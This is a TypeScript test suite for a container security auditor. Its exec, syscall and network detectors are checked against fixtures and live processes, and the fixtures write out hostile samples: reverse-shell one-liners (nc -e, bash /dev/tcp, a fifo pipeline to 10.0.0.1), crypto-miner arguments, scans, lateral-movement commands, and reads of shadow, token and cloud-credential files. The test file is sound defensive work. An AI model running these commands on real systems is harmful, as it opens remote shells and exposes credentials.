import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { copyFileSync, mkdtempSync, readlinkSync, rmSync, statSync } from 'node:fs';
import { createServer, connect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { detectExec, detectSyscall, type ContainerInfo } from '../src/audit/detectors';
import { hasLdPreload } from '../src/audit/proc-checks';
import { RULES } from '../src/audit/rules';
import { execEvent, syscallEvent, tcpEvent } from './models-fixtures';
import { detectConnect } from '../src/audit/detectors';

const T = Date.UTC(2026, 10, 27, 12);
const dir = mkdtempSync(join(tmpdir(), 'casefile-audit-'));
const children: ChildProcess[] = [];
after(() => {
  for (const c of children) c.kill('SIGKILL');
  rmSync(dir, { recursive: true, force: true });
});

/** A container that started an hour ago, so files in the image are older than it. */
const oldContainer = (): ContainerInfo => ({ startMs: Date.now() - 3_600_000 });
const rules = (fs: readonly { rule: string }[]) =>
  fs.map((f) => RULES[f.rule as keyof typeof RULES].id).sort();

// Exec fixtures (pids that do not exist: only names and arguments count).
const EXEC_CASES: [string, string[], string[], boolean?][] = [
  ['miner by name', ['/usr/local/bin/xmrig', '--threads', '2'], ['R1007']],
  [
    'miner by pool arguments',
    ['/opt/app/worker', '-o', 'stratum+tcp://pool.example:3333', '-u', 'wallet'],
    ['R1007'],
  ],
  ['port scanner', ['/usr/bin/nmap', '-sS', '10.0.0.0/24'], ['CF102']],
  ['netcat scan', ['/bin/nc', '-zv', '10.0.0.5', '1-1024'], ['CF102']],
  ['netcat scan of several ports', ['/bin/nc', '-z', '10.0.0.5', '22', '80', '443'], ['CF102']],
  ['netcat health check of one port', ['/bin/nc', '-z', '127.0.0.1', '8080'], []],
  ['nsenter', ['/usr/bin/nsenter', '-t', '1', '-m', '-u', '-n', '-i', 'sh'], ['CF109']],
  ['lateral movement', ['/usr/bin/sshpass', '-p', 'x', 'ssh', 'root@10.0.0.9'], ['CF104']],
  ['nc -e reverse shell', ['/bin/nc', '10.0.0.1', '9001', '-e', '/bin/sh'], ['CF101']],
  ['bash /dev/tcp reverse shell', ['/bin/bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/9001 0>&1'], ['CF101']],
  [
    'fifo pipeline reverse shell',
    ['/bin/sh', '-c', '/bin/sh -i < /tmp/f 2>&1 | /bin/nc 10.0.0.1 9001 > /tmp/f'],
    ['CF101'],
  ],
  ['package manager', ['/usr/bin/apt-get', 'install', '-y', 'curl'], ['CF105']],
  ['kubectl', ['/usr/local/bin/kubectl', 'get', 'secrets'], ['R0007']],
  ['module loader', ['/sbin/insmod', 'rootkit.ko'], ['R1002']],
  [
    'LD_PRELOAD on the command line',
    ['/usr/bin/env', 'LD_PRELOAD=/tmp/hook.so', '/bin/ls'],
    ['R1000', 'R1011'].slice(1),
  ],
  ['exec from /tmp', ['/tmp/payload'], ['R1000']],
  ['exec from /dev/shm', ['/dev/shm/.x'], ['R1000']],
  ['fileless via /proc/self/fd', ['/proc/self/fd/3'], ['R1005']],
  // Normal behaviour: nothing.
  ['listener', ['/bin/nc', '-l', '-p', '8080'], []],
  ['shell script', ['/bin/sh', '-c', 'while true; do sleep 1; done'], []],
  ['package manager query', ['/usr/bin/dpkg', '-l'], []],
  ['app', ['/usr/bin/python3', '/app/server.py', '--port', '8080'], []],
  ['ssh on a host is not lateral movement by name', ['/usr/bin/ssh', 'git@github.com'], []],
  ['apt on the host is fine', ['/usr/bin/apt-get', 'install', 'curl'], [], false],
];

for (const [name, argv, want, inContainer = true] of EXEC_CASES) {
  test(`exec: ${name}`, () => {
    const e = execEvent(T, argv, { pid: 4_999_990 });
    assert.deepEqual(rules(detectExec(e, inContainer ? oldContainer() : undefined)), [...want].sort());
  });
}

test('drift: a binary written after the container started, then executed (a real process)', async () => {
  const exe = join(dir, 'dropped-sleep');
  copyFileSync('/bin/sleep', exe);
  const child = spawn(exe, ['30'], { stdio: 'ignore' });
  children.push(child);
  await new Promise((r) => child.once('spawn', r));
  const startedBefore: ContainerInfo = { startMs: statSync(exe).ctimeMs - 1000 };
  const startedAfter: ContainerInfo = { startMs: statSync(exe).ctimeMs + 1000 };
  const e = execEvent(T, [exe, '30'], { pid: child.pid });
  assert.deepEqual(
    rules(detectExec(e, startedBefore)),
    ['R1000', 'R1001'],
    'written after start, and in /tmp'
  );
  assert.deepEqual(
    rules(detectExec(e, startedAfter)),
    ['R1000'],
    'older than the container: only the /tmp rule'
  );
  // The image's own binaries are older than the container: no drift.
  const ls = spawn('/bin/sleep', ['30'], { stdio: 'ignore' });
  children.push(ls);
  await new Promise((r) => ls.once('spawn', r));
  assert.deepEqual(
    rules(detectExec(execEvent(T, ['/bin/sleep', '30'], { pid: ls.pid }), oldContainer())),
    []
  );
});

test('fileless: exec of a memfd (a real one, via python)', async (t) => {
  const py = spawn(
    'python3',
    [
      '-c',
      "import os;fd=os.memfd_create('x');os.write(fd,open('/bin/sleep','rb').read());os.execv('/proc/self/fd/%d'%fd,['sleep','30'])",
    ],
    { stdio: 'ignore' }
  );
  children.push(py);
  const spawned = await new Promise<boolean>((r) => {
    py.once('spawn', () => r(true));
    py.once('error', () => r(false));
  });
  if (!spawned) return t.skip('python3 not installed');
  // Wait until the exec happened (the exe link turns into the memfd).
  const { readlinkSync } = await import('node:fs');
  const deadline = Date.now() + 5000;
  while (Date.now() < deadline && !readlinkSafe(readlinkSync, py.pid!).startsWith('/memfd:'))
    await new Promise((r) => setTimeout(r, 20));
  // The eBPF source reports the exec'd filename: /proc/self/fd/N; /proc/<pid>/exe says memfd either way.
  const e = execEvent(T, ['sleep', '30'], { pid: py.pid, filename: '/usr/bin/python3-exec-target' });
  assert.deepEqual(rules(detectExec(e, oldContainer())), ['R1005']);
});

function readlinkSafe(fn: (p: string) => string, pid: number): string {
  try {
    return fn(`/proc/${pid}/exe`);
  } catch {
    return '';
  }
}

test('reverse shell: a shell whose stdin/stdout is a socket (real socket, real shell)', async () => {
  const conns: Socket[] = [];
  const server = createServer((c) => conns.push(c));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const sock: Socket = connect((server.address() as { port: number }).port, '127.0.0.1');
  await new Promise((r) => sock.once('connect', r));
  const sh = spawn('/bin/sh', [], { stdio: [sock, sock, 'ignore'] });
  children.push(sh);
  await new Promise((r) => sh.once('spawn', r));
  assert.deepEqual(rules(detectExec(execEvent(T, ['/bin/sh'], { pid: sh.pid }), oldContainer())), ['CF101']);
  // The same shell on a local socketpair (what Node's child_process uses for pipes) is an ordinary shell.
  const plain = spawn('/bin/sh', [], { stdio: ['pipe', 'pipe', 'ignore'] });
  children.push(plain);
  await new Promise((r) => plain.once('spawn', r));
  assert.deepEqual(rules(detectExec(execEvent(T, ['/bin/sh'], { pid: plain.pid }), oldContainer())), []);
  sh.kill('SIGKILL');
  plain.kill('SIGKILL');
  sock.destroy();
  for (const c of conns) c.destroy();
  server.close();
});

test('LD_PRELOAD in the environment of a container process (real process)', async () => {
  const child = spawn('/bin/sleep', ['30'], { stdio: 'ignore', env: { LD_PRELOAD: '/nonexistent-hook.so' } });
  children.push(child);
  await new Promise((r) => child.once('spawn', r));
  const deadline = Date.now() + 5000;
  let got: string[] = [];
  while (Date.now() < deadline && got.length === 0) {
    got = rules(detectExec(execEvent(T, ['/bin/sleep', '30'], { pid: child.pid }), oldContainer()));
    if (got.length === 0) await new Promise((r) => setTimeout(r, 20));
  }
  assert.deepEqual(got, ['R1011']);
});

test('LD_PRELOAD in a large environment: first, last, and cut by every read boundary (real processes)', async () => {
  // The environment is read in 64 KiB chunks; one variable of `pad` bytes puts LD_PRELOAD across the first chunk's end
  // (one variable is at most 128 KiB: larger ones are two).
  const envOf = (pad: number, preload: boolean): NodeJS.ProcessEnv => ({
    A: 'x'.repeat(pad),
    ...(preload ? { LD_PRELOAD: '/nonexistent-hook.so' } : { LD_LIBRARY_PATH: '/nonexistent' }),
  });
  const cases: [string, NodeJS.ProcessEnv, boolean][] = [
    ['first variable', { LD_PRELOAD: '/nonexistent-hook.so', A: 'x' }, true],
    ['after 200 KiB', { B: 'y'.repeat(100 * 1024), ...envOf(100 * 1024, true) }, true],
    ['not set, 200 KiB', { B: 'y'.repeat(100 * 1024), ...envOf(100 * 1024, false) }, false],
    ['a value that only contains it', { A: 'xLD_PRELOAD=/x.so' }, false],
  ];
  for (let pad = 65_515; pad <= 65_540; pad++) cases.push([`cut at pad ${pad}`, envOf(pad, true), true]);
  for (const [name, env, want] of cases) {
    const child = spawn('/bin/sleep', ['30'], { stdio: 'ignore', env });
    children.push(child);
    await new Promise((r) => child.once('spawn', r));
    // Until the exec happened, /proc shows the parent's environment.
    const deadline = Date.now() + 5000;
    while (Date.now() < deadline && !readlinkSafe(readlinkSync, child.pid!).endsWith('/sleep'))
      await new Promise((r) => setTimeout(r, 10));
    assert.equal(hasLdPreload(child.pid!), want, name);
    child.kill('SIGKILL');
  }
});

const SYSCALL_CASES: [string, Parameters<typeof syscallEvent>[2] & { sc: number }, string[] | null][] = [
  ['read /etc/shadow', { sc: 1, path: '/etc/shadow' }, ['R0010']],
  [
    'service account token',
    { sc: 1, path: '/var/run/secrets/kubernetes.io/serviceaccount/token' },
    ['R0006'],
  ],
  ["another process's environ", { sc: 1, path: '/proc/1/environ', pid: 77 }, ['R0008']],
  ['own environ is not even an event', { sc: 1, path: '/proc/self/environ' }, null],
  ['ssh client config is not an event', { sc: 1, path: '/etc/ssh/ssh_config' }, null],
  ['ld.so.preload opened for writing', { sc: 1, path: '/etc/ld.so.preload', a: 0o1101 }, ['R1011']],
  ['ld.so.preload read by the loader is not an event', { sc: 1, path: '/etc/ld.so.preload', a: 0 }, null],
  ['cloud credentials', { sc: 1, path: '/root/.aws/credentials' }, ['CF108']],
  ['gcloud credentials', { sc: 1, path: '/root/.config/gcloud/credentials.db' }, ['CF108']],
  ['crontab written', { sc: 1, path: '/etc/crontabs/root', a: 0o2101 }, ['CF114']],
  ['crontab read is not an event', { sc: 1, path: '/etc/crontabs/root', a: 0 }, null],
  ['shell profile written', { sc: 1, path: '/root/.profile', a: 0o2101 }, ['CF114']],
  ['authorized_keys written', { sc: 1, path: '/root/.ssh/authorized_keys', a: 0o2101 }, ['CF114']],
  ['authorized_keys read', { sc: 1, path: '/root/.ssh/authorized_keys', a: 0 }, ['R0010']],
  ['log truncated', { sc: 1, path: '/var/log/app.log', a: 0o1101 }, ['CF112']],
  ['log appended is not an event', { sc: 1, path: '/var/log/app.log', a: 0o2101 }, null],
  ['log deleted', { sc: 9, path: '/var/log/auth.log' }, ['CF112']],
  ['rotated log deleted is rotation', { sc: 9, path: '/var/log/app.log.3' }, null],
  ['compressed rotated log deleted is rotation', { sc: 9, path: '/var/log/app.log.2.gz' }, null],
  ['log truncated by truncate(2)', { sc: 10, path: '/var/log/messages' }, ['CF112']],
  ['history deleted', { sc: 9, path: '/root/.ash_history' }, ['CF113']],
  ['history truncated', { sc: 1, path: '/root/.bash_history', a: 0o1101 }, ['CF113']],
  ['history appended is not an event', { sc: 1, path: '/root/.bash_history', a: 0o2101 }, null],
  ['mount', { sc: 11, path: '/mnt', a: 0 }, ['CF110']],
  ['runtime socket opened', { sc: 1, path: '/var/run/docker.sock', a: 1 }, ['CF111']],
  ['runtime socket connected', { sc: 12, path: '/run/containerd/containerd.sock' }, ['CF111']],
  ['another unix socket is not an event', { sc: 12, path: '/var/run/nscd/socket' }, null],
  ['ptrace attach', { sc: 3, a: 16, tp: 1234 }, ['CF106']],
  ['unshare', { sc: 4, a: 0x10000000 }, ['R1006']],
  ['setuid(0) by a non-root user', { sc: 5, a: 0, uid: 1000 }, ['CF107']],
  ['bpf program load', { sc: 6, a: 5 }, ['R0009']],
  ['symlink over /etc/shadow', { sc: 7, path: '/etc/shadow' }, ['R1010']],
  ['symlink to an ordinary file', { sc: 7, path: '/etc/hostname' }, null],
];

for (const [name, o, want] of SYSCALL_CASES) {
  test(`syscall: ${name}`, () => {
    const e = syscallEvent(T, o.sc, o);
    if (want === null) return assert.equal(e, null);
    assert.ok(e);
    assert.equal(e.type, 'process.syscall');
    assert.deepEqual(rules(detectSyscall(e, true)), want);
  });
}

test('syscall events decode their argument', () => {
  assert.equal(syscallEvent(T, 4, { a: 0x10000000 | 0x40000000 })?.syscallArg, 'CLONE_NEWUSER|CLONE_NEWNET');
  assert.equal(syscallEvent(T, 3, { a: 16, tp: 9 })?.syscallArg, 'PTRACE_ATTACH');
  assert.equal(
    syscallEvent(T, 1, { path: '/etc/shadow', a: 0o1101 })?.syscallArg,
    'O_WRONLY|O_CREAT|O_TRUNC'
  );
  // Host processes: unshare and module loads are normal there.
  assert.deepEqual(detectSyscall(syscallEvent(T, 4, { a: 0x10000000 })!, false), []);
});

test('connect: mining pool ports and domains, remote-admin ports from a container', () => {
  assert.deepEqual(rules(detectConnect(tcpEvent(T, 'connect', '198.51.100.1', 3333), true)), ['R1009']);
  assert.deepEqual(
    rules(
      detectConnect(
        { ...tcpEvent(T, 'connect', '198.51.100.1', 443), destDomain: 'xmr.supportxmr.com' },
        true
      )
    ),
    ['R1008']
  );
  assert.deepEqual(rules(detectConnect(tcpEvent(T, 'connect', '10.0.0.9', 22), true)), ['R1003']);
  assert.deepEqual(rules(detectConnect(tcpEvent(T, 'connect', '10.0.0.9', 443), true)), []);
  assert.deepEqual(
    rules(detectConnect(tcpEvent(T, 'connect', '10.0.0.9', 22), false)),
    [],
    'ssh from a host is normal'
  );
});
